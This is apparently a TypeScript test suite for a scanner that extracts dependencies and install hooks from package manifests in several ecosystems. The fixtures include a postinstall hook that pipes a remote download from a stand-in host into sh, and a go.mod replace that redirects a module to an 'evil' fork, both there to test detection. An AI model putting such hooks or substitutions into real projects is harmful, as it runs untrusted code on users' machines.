// Manifest analyzer: package manifests → dependency and install-hook facts.

import { describe } from 'node:test';
import { manifestAnalyzer } from '../../../src/scan/analyzers/manifest.ts';
import type { Case } from './python-js-collect.ts';
import { runCases } from './python-js-cases.ts';

const pkg = (o: object) => JSON.stringify(o, null, 2);

const cases: Case[] = [
  {
    name: 'package.json dependencies: pinned, ranges, git, file, alias', file: 'package.json',
    code: pkg({ name: 'x', dependencies: { left: '1.2.3', right: '^1.2.3', gitdep: 'git+https://git.example/g.git', own: 'file:../own', gh: 'user/repo', al: 'npm:real-pkg@2.0.0' }, devDependencies: { tsx: '~4.0.0' } }),
    facts: [
      { kind: 'dependency', ecosystem: 'npm', name: 'left', version: '1.2.3', pinned: true, via: 'manifest', line: 4 },
      { kind: 'dependency', name: 'right', version: '^1.2.3', pinned: false },
      { kind: 'dependency', name: 'gitdep', source: 'git+https://git.example/g.git', pinned: false },
      { kind: 'dependency', name: 'own', source: 'file:../own' },
      { kind: 'dependency', name: 'gh', source: 'github:user/repo' },
      { kind: 'dependency', name: 'real-pkg', version: '2.0.0', pinned: true },
      { kind: 'dependency', name: 'tsx', pinned: false, line: 12 },
    ],
  },
  {
    name: 'package.json install hooks go to the shell analyzer', file: 'package.json',
    code: pkg({ name: 'x', scripts: { test: 'node --test', postinstall: 'curl -s https://x.example/i | sh', prepare: 'tsc' } }),
    facts: [{ kind: 'install-hook', manager: 'npm', hook: 'postinstall', command: 'curl -s https://x.example/i | sh', line: 5 }, { kind: 'install-hook', hook: 'prepare', command: 'tsc' }],
    not: [{ kind: 'install-hook', hook: 'test' }],
    embedded: [{ lang: 'shell', text: 'curl -s https://x.example/i | sh', line: 5 }],
  },
  { name: 'broken package.json yields nothing', file: 'package.json', code: '{"dependencies": {', not: [{ kind: 'dependency' }] },
  {
    name: 'requirements: pins, hashes, ranges, VCS, URL', file: 'requirements.txt',
    code: 'requests==2.31.0\nflask>=2 # web\nnumpy==1.26.4 \\\n    --hash=sha256:0123\nurllib3\ngit+https://git.example/lib.git@v1#egg=lib\npkg @ https://files.example/pkg-1.0.whl\nstar==1.*\n',
    facts: [
      { kind: 'dependency', ecosystem: 'pypi', name: 'requests', version: '==2.31.0', pinned: true, line: 1 },
      { kind: 'dependency', name: 'flask', version: '>=2', pinned: false, line: 2 },
      { kind: 'dependency', name: 'numpy', pinned: true, line: 3 },
      { kind: 'dependency', name: 'urllib3', pinned: false, line: 5 },
      { kind: 'dependency', name: 'lib', source: 'git+https://git.example/lib.git@v1#egg=lib', line: 6 },
      { kind: 'dependency', name: 'pkg', source: 'https://files.example/pkg-1.0.whl' },
      { kind: 'dependency', name: 'star', pinned: false },
    ],
  },
  {
    name: 'requirements: an extra index is every dependency\'s source', file: 'requirements-dev.txt',
    code: 'internal-utils==1.0.0\n--extra-index-url http://203.0.113.5/simple\n',
    facts: [{ kind: 'dependency', name: 'internal-utils', source: 'http://203.0.113.5/simple', pinned: true }],
  },
  {
    name: 'requirements: the default index is no source', file: 'requirements.txt',
    code: '-i https://pypi.org/simple\nrequests==2.0.0\n',
    not: [{ kind: 'dependency', source: 'https://pypi.org/simple' }],
    facts: [{ kind: 'dependency', name: 'requests' }],
  },
  {
    name: 'pyproject: PEP 621 and Poetry', file: 'pyproject.toml',
    code: '[build-system]\nrequires = ["setuptools>=61"]\n\n[project]\nname = "x"\ndependencies = [\n  "httpx==0.27.0",\n  "rich>=13",  # pretty\n]\n\n[project.optional-dependencies]\ndev = ["pytest"]\n\n[tool.poetry.dependencies]\npython = "^3.11"\npendulum = "3.0.0"\nmylib = { git = "https://git.example/mylib.git" }\n',
    facts: [
      { kind: 'dependency', name: 'setuptools', line: 2 },
      { kind: 'dependency', name: 'httpx', pinned: true, line: 7 },
      { kind: 'dependency', name: 'rich', pinned: false, line: 8 },
      { kind: 'dependency', name: 'pytest', line: 12 },
      { kind: 'dependency', name: 'pendulum', pinned: true, line: 16 },
      { kind: 'dependency', name: 'mylib', source: 'https://git.example/mylib.git', line: 17 },
    ],
    not: [{ kind: 'dependency', name: 'python' }],
  },
  {
    name: 'pyproject: uv index and uv sources', file: 'pyproject.toml',
    code: '[project]\nname = "x"\ndependencies = ["httpx==0.27.0", "kpi-core"]\n\n[[tool.uv.index]]\nname = "mirror"\nurl = "https://pypi.mirror.example/simple"\n\n[tool.uv.sources]\nkpi-core = { git = "https://git.kpi.example/kpi/kpi-core.git" }\n',
    facts: [
      { kind: 'dependency', name: 'httpx', pinned: true, source: 'https://pypi.mirror.example/simple' },
      { kind: 'dependency', name: 'kpi-core', pinned: false, source: 'git+https://git.kpi.example/kpi/kpi-core.git' },
    ],
  },
  {
    name: 'Pipfile with a private source', file: 'Pipfile',
    code: '[[source]]\nurl = "https://pypi.internal.example/simple"\nname = "internal"\n\n[packages]\nrequests = "*"\ncorp-auth = {version = "==1.2.0"}\n',
    facts: [{ kind: 'dependency', name: 'requests', pinned: false, source: 'https://pypi.internal.example/simple' }, { kind: 'dependency', name: 'corp-auth', pinned: true }],
  },
  { name: 'setup.cfg install_requires', file: 'setup.cfg', code: '[options]\ninstall_requires =\n    click==8.1.7\n    jinja2\n\n[flake8]\n', facts: [{ kind: 'dependency', name: 'click', pinned: true, line: 3 }, { kind: 'dependency', name: 'jinja2', pinned: false, line: 4 }] },
  { name: 'go.mod requires and replace', file: 'go.mod', code: 'module example.com/m\n\nrequire (\n\tgithub.com/a/b v1.2.3\n\tgolang.org/x/net v0.20.0 // indirect\n)\nrequire github.com/c/d v0.1.0\nreplace github.com/a/b => github.com/evil/b v1.2.4\n', facts: [{ kind: 'dependency', ecosystem: 'go', name: 'github.com/a/b', version: 'v1.2.3', pinned: true, source: 'github.com/evil/b', line: 4 }, { kind: 'dependency', name: 'golang.org/x/net', line: 5 }, { kind: 'dependency', name: 'github.com/c/d', line: 7 }] },
  { name: 'Gemfile', file: 'Gemfile', code: "source 'https://rubygems.org'\ngem 'rails', '7.1.0'\ngem 'rack', '~> 3.0'\ngem 'mine', git: 'https://git.example/mine.git'\n", facts: [{ kind: 'dependency', ecosystem: 'gem', name: 'rails', pinned: true }, { kind: 'dependency', name: 'rack', pinned: false }, { kind: 'dependency', name: 'mine', source: 'https://git.example/mine.git' }] },
  { name: 'Cargo.toml', file: 'Cargo.toml', code: '[package]\nname = "x"\n\n[dependencies]\nserde = "1.0"\nexact = "=0.4.1"\nlocal = { path = "../local" }\n', facts: [{ kind: 'dependency', ecosystem: 'cargo', name: 'serde', pinned: false, line: 5 }, { kind: 'dependency', name: 'exact', pinned: true }, { kind: 'dependency', name: 'local', source: '../local' }], not: [{ kind: 'dependency', name: 'name' }] },
];

describe('manifest analyzer', () => runCases(manifestAnalyzer, cases, 'package.json'));
